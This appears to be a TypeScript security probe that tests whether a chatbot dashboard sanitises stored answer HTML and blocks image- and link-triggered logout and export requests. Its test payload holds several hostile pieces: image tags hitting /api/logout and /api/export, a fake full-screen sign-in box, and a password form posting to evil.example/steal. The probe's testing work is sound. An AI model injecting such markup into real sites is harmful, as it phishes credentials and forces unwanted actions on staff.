import { fillPath, type OpenApiDocument, routesOfOpenApi } from '../security/openapi-routes.ts';
import { type Answer, auditTotal, botPost, call, DASHBOARD_FETCH, login, probe, SAME_ORIGIN_IMAGE, SAME_ORIGIN_LINK, sessionCookieOf } from './probe-calls.ts';
import { DEMO_ADMIN, DEMO_VIEWER, type ScanTarget } from './scan-target.ts';
import type { StepResult } from './step-result.ts';

/** What the outside probe had the chatbot answer: images that call the API, a class-drawn sign-in box, a form. */
export const HOSTILE_ANSWER_HTML = [
  '<p>Your order is on its way.</p>',
  '<img src="/api/logout" alt="">',
  '<img src="/api/export/history?format=csv" alt="">',
  '<img src="http://tracker.example/pixel.gif" alt="">',
  '<div class="modal d-block position-fixed top-0 start-0 w-100 h-100 bg-body" style="z-index:9999" id="root">',
  '<h2>Your session has expired</h2><a class="btn btn-primary w-100" href="https://evil.example/sign-in">Sign in again</a>',
  '<form action="https://evil.example/steal"><input name="password" type="password"></form></div>',
].join('');

/** What in a stored answer could still act when staff open it: markup outside the allow-list, or an image of this server. */
function hostileLeftIn(html: string, ownOrigin: string): string[] {
  const left: string[] = [];
  for (const attribute of ['class', 'style', 'id']) {
    if (new RegExp(`<[^>]*\\s${attribute}\\s*=`, 'i').test(html)) left.push(`a ${attribute} attribute`);
  }
  if (/<(form|input|button)\b/i.test(html)) left.push('a form control');
  for (const [, src = ''] of html.matchAll(/<img\b[^>]*\ssrc\s*=\s*["']?([^"'\s>]*)/gi)) {
    const url = URL.canParse(src) ? new URL(src) : undefined;
    if (url?.protocol !== 'https:' || url.origin === ownOrigin) left.push(`an image of ${JSON.stringify(src)}`);
  }
  return left;
}

const isExportFile = (answer: Answer): boolean => answer.status === 200 && /attachment/i.test(answer.headers.get('content-disposition') ?? '');

/**
 * The bot's answer HTML must not act when staff open it (issue 52): the stored answer keeps no class, style or
 * id, no form and no image of this server; no GET an image or a link can send signs out or exports (the
 * dashboard's own calls still do); and the dashboard's Content-Security-Policy limits images and form targets.
 */
export async function probeAnswerHtml(target: ScanTarget): Promise<StepResult> {
  const started = Date.now();
  const tried: string[] = [];
  const findings: string[] = [];
  const ownOrigin = new URL(target.url).origin;

  const sessionId = `answer-html-probe-${Date.now()}`;
  await botPost(target, '/api/bot/messages', { session_id: sessionId, user_message: 'Where is my order?', api_response: HOSTILE_ANSWER_HTML });
  const stored = String((await call(target, 'GET', `/api/history/${sessionId}`)).body.data?.rows?.[0]?.api_response ?? '');
  const left = hostileLeftIn(stored, ownOrigin);
  tried.push(`sent an answer with images of /api/logout and /api/export, a class-drawn sign-in box and a form; the History call answers ${stored.length} characters of it`);
  for (const item of left) findings.push(`the answer staff open still holds ${item}`);

  for (const [kind, headers] of [['an image', SAME_ORIGIN_IMAGE], ['a link', SAME_ORIGIN_LINK]] as const) {
    const viewer = sessionCookieOf(await login(target, DEMO_VIEWER, '198.51.100.70'));
    const answer = await call(target, 'GET', '/api/logout', { headers, cookie: viewer ?? null });
    const alive = (await call(target, 'GET', '/api/authenticate-user', { cookie: viewer ?? null })).status === 200;
    tried.push(`GET /api/logout as ${kind} from the dashboard's own page sends it: ${answer.status}, the session ${alive ? 'alive' : 'ended'}`);
    if (!alive) findings.push(`${kind} of /api/logout in an answer signs out whoever opens it`);
  }
  const viewer = sessionCookieOf(await login(target, DEMO_VIEWER, '198.51.100.71'));
  const own = await call(target, 'GET', '/api/logout', { headers: DASHBOARD_FETCH, cookie: viewer ?? null });
  const ended = (await call(target, 'GET', '/api/authenticate-user', { cookie: viewer ?? null })).status === 401;
  tried.push(`the dashboard's own GET /api/logout: ${own.status}, the session ${ended ? 'ended' : 'alive'}`);
  if (own.status !== 200 || !ended) findings.push(`the dashboard's own logout no longer works (${own.status})`);

  const exportsBefore = await auditTotal(target, { action: 'data_exported' });
  for (const [kind, headers] of [['an image', SAME_ORIGIN_IMAGE], ['a link', SAME_ORIGIN_LINK]] as const) {
    const answer = await call(target, 'GET', '/api/export/history?format=csv', { headers });
    tried.push(`GET /api/export/history as ${kind} sends it: ${answer.status}${isExportFile(answer) ? ', the file' : ''}`);
    if (isExportFile(answer)) findings.push(`${kind} of /api/export/… in an answer makes whoever opens it export the history`);
  }
  const exportsAfter = await auditTotal(target, { action: 'data_exported' });
  if (exportsAfter > exportsBefore) findings.push(`${exportsAfter - exportsBefore} export(s) were audited as the administrator's from image or link requests`);
  const ownExport = await call(target, 'GET', '/api/export/history?format=jsonl', { headers: DASHBOARD_FETCH });
  tried.push(`the dashboard's own export call: ${ownExport.status}`);
  if (!isExportFile(ownExport)) findings.push(`the dashboard's own export no longer works (${ownExport.status})`);

  // Every GET of the API, as an image in a page of this server would send it, with a fresh administrator session.
  const admin = sessionCookieOf(await login(target, DEMO_ADMIN, '198.51.100.72'));
  const document = (await (await fetch(`${target.url}/api/docs/json`)).json()) as OpenApiDocument;
  const gets = routesOfOpenApi(document).filter((route) => route.method === 'GET');
  const auditedBefore = await auditTotal(target);
  const answeredFiles: string[] = [];
  for (const route of gets) {
    const answer = await call(target, 'GET', fillPath(route, '1'), { headers: SAME_ORIGIN_IMAGE, cookie: admin ?? null });
    if (isExportFile(answer)) answeredFiles.push(route.path);
  }
  const adminAlive = (await call(target, 'GET', '/api/authenticate-user', { cookie: admin ?? null })).status === 200;
  const auditedAfter = await auditTotal(target);
  tried.push(`every GET of /api/docs/json (${gets.length}) as an image would send it: ${answeredFiles.length} answered a file, ${auditedAfter - auditedBefore} audit entr(ies) written, the session ${adminAlive ? 'alive' : 'ended'}`);
  for (const path of answeredFiles) findings.push(`an image of GET ${path} gets an exported file`);
  if (auditedAfter > auditedBefore) findings.push(`image requests wrote ${auditedAfter - auditedBefore} audit entr(ies) (a state change or an export)`);
  if (!adminAlive) findings.push('image requests ended the session');

  const policy = (await call(target, 'GET', '/home', { cookie: null })).headers.get('content-security-policy') ?? '';
  const directive = (name: string) => policy.split(';').map((part) => part.trim()).find((part) => part.startsWith(`${name} `));
  const images = directive('img-src');
  const forms = directive('form-action');
  tried.push(`the dashboard's Content-Security-Policy: ${images ?? 'no img-src'}; ${forms ?? 'no form-action'}`);
  if (!images || /'self'|\*|\bhttp:/.test(images)) findings.push(`img-src lets a page of this server load images of its own API or of plain http: ${images ?? 'none'}`);
  if (!forms || /\*/.test(forms)) findings.push(`form-action does not limit where forms are sent: ${forms ?? 'none'}`);
  return probe('probe: hostile answer HTML (image and link GETs, class-drawn boxes, CSP)', started, tried, findings);
}
